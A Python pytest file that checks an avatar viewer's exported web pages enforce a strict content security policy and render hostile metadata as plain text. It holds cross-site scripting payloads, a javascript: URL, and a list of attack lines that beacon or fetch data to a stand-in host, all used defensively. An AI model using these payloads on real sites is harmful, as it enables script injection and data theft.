"""What strangers' files cannot do: pages forbid themselves every script and server but their own, text stays text."""

import html.parser
import http.server
import json
import re
import shutil
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from functools import partial
from pathlib import Path

import cv2
import numpy as np
import pytest
from playwright.sync_api import Browser

from nerfstudio_mobavatar.web_export import bundle, page_folder, pose_sequence, site
from nerfstudio_mobavatar.web_export.pose_sequence import MOTION_FILE

from .browser import NO_CHROMIUM, AvatarPage, avatar_page, chromium
from .synthetic_avatar import SyntheticAvatar, walking_pose

ROOT = Path(__file__).parent.parent
VIEWER_PAGES = ("web_export/viewer/dist/index.html", "docs/sample/index.html")
VIEWER_POLICY = {
    "default-src": "'none'",
    "script-src": "'self'",
    "style-src": "'self'",
    "img-src": "'self'",
    "connect-src": "'self'",
    "base-uri": "'none'",
    "form-action": "'none'",
    "require-trusted-types-for": "'script'",
    "trusted-types": "'none'",
}
GALLERY_POLICY = {
    name: VIEWER_POLICY[name] for name in ("default-src", "style-src", "img-src", "base-uri", "form-action")
}
POISON = "\"'><img src=x onerror=pwned()><script>pwned()</script><svg onload=pwned()>&lt;b&gt;${pwned()}"
COUNT = """
    window.violations = [];
    window.pwned = () => { window.isOwned = true; };
    document.addEventListener("securitypolicyviolation", (event) => violations.push(event.violatedDirective));"""
FIRST = "document.querySelector('mobile-avatar')"


class Reader(html.parser.HTMLParser):
    """What could run or load in a page, in the order of the file."""

    def __init__(self, text: str):
        super().__init__()
        self.policies: list[dict[str, str]] = []
        self.loads_before_policy: list[str] = []
        self.inline: list[str] = []
        self.inside = ""
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        if values.get("http-equiv", "").lower() == "content-security-policy":
            rules = [rule.split(None, 1) for rule in values["content"].split(";")]
            self.policies.append({name: rest for name, rest in rules})
        elif not self.policies and tag in ("script", "link", "style", "img", "base", "iframe"):
            self.loads_before_policy.append(tag)
        self.inline += [name for name in values if name.startswith("on") or name == "style"]
        self.inside = tag

    def handle_data(self, data: str) -> None:
        if self.inside in ("script", "style") and data.strip():
            self.inline.append(data)

    def handle_endtag(self, tag: str) -> None:
        self.inside = ""


@contextmanager
def any_server(folder: Path) -> Iterator[str]:
    """One that knows nothing of these pages and sends no headers for them."""

    class Quiet(http.server.SimpleHTTPRequestHandler):
        def log_message(self, *_: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), partial(Quiet, directory=folder))
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://localhost:{server.server_address[1]}/"
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def avatar_bytes(meta: dict[str, str]) -> bytes:
    arrays = SyntheticAvatar(num_gaussians=400, num_nodes=40, num_kept=50, num_parts=8).build()
    return bundle.encode(replace(arrays, meta=arrays.meta | meta))


def make_page(folder: Path, meta: dict[str, str]) -> Path:
    """An exported folder."""
    folder.mkdir(parents=True)
    page_folder.copy_viewer(folder)
    (folder / page_folder.AVATAR_FILE).write_bytes(avatar_bytes(meta))
    pose_sequence.write(folder / MOTION_FILE, [walking_pose(x) for x in (0.0, 1.0, 2.0)], [0, 1, 2])
    assert cv2.imwrite(str(folder / page_folder.POSTER_FILE), np.full((96, 72, 3), 200, np.uint8))
    return folder


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A gallery below it whose every name wants to run a script."""
    root = tmp_path_factory.mktemp("root")
    meta = {"body": POISON, "body_license": POISON, "generator": POISON, "license": POISON}
    page = make_page(root / "made" / POISON.replace("/", "\u2044"), meta)
    motions = [{"name": POISON, "file": MOTION_FILE, "frames": 3, "fps": 30},
               {"name": POISON, "file": "javascript:pwned()", "frames": 3, "fps": 30},
               {"name": "elsewhere", "file": "https://192.0.2.1/motion.pose.json", "frames": 3, "fps": 30},
               {"name": "percent", "file": "100%.pose.json", "frames": 3, "fps": 30}]  # fmt: skip
    (page / "motions.json").write_text(json.dumps(motions))
    site.write_site(root / "gallery", site.read_entries([page]), POISON)
    return root


def test_pages_name_what_they_need_and_forbid_the_rest(root: Path) -> None:
    gallery = root / "gallery"
    folder = next(path.parent.name for path in gallery.glob("*/index.html"))
    pages = {ROOT / name: VIEWER_POLICY for name in VIEWER_PAGES}
    pages |= {gallery / "index.html": GALLERY_POLICY, gallery / folder / "index.html": VIEWER_POLICY}
    for path, policy in pages.items():
        page = Reader(path.read_text("utf-8"))
        assert page.policies == [policy] and page.loads_before_policy == [] and page.inline == [], path


needs_chromium = pytest.mark.skipif(chromium() is None, reason=NO_CHROMIUM)


@pytest.fixture
def viewer(chrome: Browser, root: Path) -> Iterator[AvatarPage]:
    folder = next(path.parent.name for path in (root / "gallery").glob("*/index.html"))
    with any_server(root) as url, avatar_page(chrome, f"{url}gallery/{folder}/", 480, 480, COUNT) as page:
        page.wait_ready()
        yield page


@needs_chromium
def test_poisoned_files_are_shown_as_text(viewer: AvatarPage) -> None:
    """And the page does all that it can do without asking for what it forbids itself."""
    page = viewer.page
    shown = "() => JSON.stringify([...document.querySelector('mobile-avatar').shadowRoot.querySelectorAll('*')]" \
            ".filter((e) => e.matches('script, iframe, object, embed, a') || (e.matches('img') && e.id !== 'poster'))" \
            ".map((e) => e.outerHTML))"  # fmt: skip
    viewer.wait_until(f"() => {FIRST}.motionList.length === 4")
    for key in ("i", "b", "e", "x", "e", "r", "Space", ".", "?"):
        page.keyboard.press(key)
    assert POISON in page.inner_text("#menu") and POISON in page.inner_text("#stats")
    page.evaluate(f"() => {FIRST}.screenshot({{width: 32, height: 32}}).then(() => true)")
    drop = f"""([name, text]) => {{
        const transfer = new DataTransfer();
        transfer.items.add(new File([text], name));
        {FIRST}.dispatchEvent(new DragEvent("drop", {{dataTransfer: transfer, bubbles: true, cancelable: true}}));
    }}"""
    page.evaluate(drop, [f"{POISON}.mobavatar", POISON])
    assert "not an avatar file" in viewer.message() and "<img src=x onerror=pwned()>" in page.inner_text("#message")
    assert page.evaluate("() => violations") == [] and viewer.errors == []
    assert page.evaluate(shown) == "[]" and page.evaluate("() => 'isOwned' in window") is False
    assert page.title().startswith("\"'><img src=x")
    for i in (1, 2):  # an address that is no file of the server's
        page.evaluate(f"(i) => {FIRST}.shadowRoot.querySelectorAll('input[name=motion]')[i].click()", i)
        assert "could not be fetched" in viewer.message()
        page.click("#dismiss")
    page.evaluate(f"() => {FIRST}.shadowRoot.querySelectorAll('input[name=motion]')[3].click()")
    assert "100%.pose.json: the server answered 404" in viewer.message()
    assert page.evaluate("() => [violations, 'isOwned' in window]") == [2 * ["connect-src"], False]
    assert viewer.errors and all("security policy" in error.lower() or "404" in error for error in viewer.errors), (
        viewer.errors
    )


ATTACKS = [
    ("const s = document.createElement('script'); s.append('pwned()'); document.head.append(s)", "trusted-types"),
    ("const s = document.createElement('script'); s.src = 'data:text/javascript,pwned()'", "trusted-types"),
    ("document.body.innerHTML = '<img src=x onerror=pwned()>'", "trusted-types"),
    ("document.body.setAttribute('onclick', 'pwned()'); document.body.click()", "trusted-types"),
    ("setTimeout('pwned()')", "trusted-types"),
    ("new Worker('viewer.js')", "trusted-types"),
    ("const s = document.createElement('style'); s.append('p {}'); document.head.append(s)", "style-src-elem"),
    ("document.body.setAttribute('style', 'color: red')", "style-src-attr"),
    ("document.body.append(Object.assign(new Image(), {src: 'http://192.0.2.1/x.png'}))", "img-src"),
    ("fetch('http://192.0.2.1/').catch(() => 0)", "connect-src"),
    ("navigator.sendBeacon('http://192.0.2.1/', 'secret')", "connect-src"),
    ("new WebSocket('ws://192.0.2.1/')", "connect-src"),
    ("document.body.append(Object.assign(document.createElement('iframe'), {src: 'viewer.js'}))", "frame-src"),
    ("const f = document.createElement('form'); f.action = 'http://192.0.2.1/'; document.body.append(f); f.submit()",
     "form-action"),
    ("document.head.append(Object.assign(document.createElement('base'), {href: 'http://192.0.2.1/'}))", "base-uri"),
]  # fmt: skip


@needs_chromium
def test_what_got_in_cannot_do_anything(chrome: Browser, tmp_path: Path) -> None:
    """Even where a script of the page's own went wrong. An inline script in the page's own file does not run either."""
    shutil.copytree(ROOT / "web_export/viewer/dist", tmp_path / "page")
    index = tmp_path / "page" / "index.html"
    index.write_text(index.read_text().replace("</body>", "<script>window.isOwned = true</script></body>"))
    with any_server(tmp_path / "page") as url, avatar_page(chrome, url, 64, 64, COUNT) as tab:
        tab.message()  # there is no avatar
        assert tab.page.evaluate("() => violations.splice(0)") == ["script-src-elem"]
        for attack, directive in ATTACKS:
            script = f"""() => new Promise((done) => {{
                const heard = () => setTimeout(() => done(violations.splice(0)), 20);
                document.addEventListener("securitypolicyviolation", heard, {{once: true}});
                setTimeout(heard, 3000);
                try {{ {attack}; }} catch {{ }}
            }})"""
            found = tab.page.evaluate(script)
            assert any(directive in name for name in found), (attack, found)
        assert tab.page.evaluate("() => 'isOwned' in window") is False


def test_no_source_of_the_page_makes_markup_or_code_of_text() -> None:
    """Trusted Types forbid it in browsers that have them; the sources forbid it in all."""
    banned = re.compile(
        r"\b(inner|outer)HTML\b|insertAdjacentHTML|setHTML|document\s*\.\s*write|createContextualFragment|DOMParser|srcdoc"
        r"|\beval\s*\(|new\s+Function\b|set(Timeout|Interval)\s*\(\s*[\"'`]|javascript:|\.cssText\b|[\"'`]style[\"'`]"
    )
    viewer = ROOT / "web_export" / "viewer"
    sources = [path for ending in ("ts", "html", "js", "mjs") for path in (viewer / "src").rglob(f"*.{ending}")]
    found = [
        f"{path.relative_to(ROOT)}: {match[0]}"
        for path in [*sources, viewer / "dist" / "viewer.js"]
        for match in banned.finditer(path.read_text("utf-8"))
    ]
    assert len(sources) > 50 and not found, found
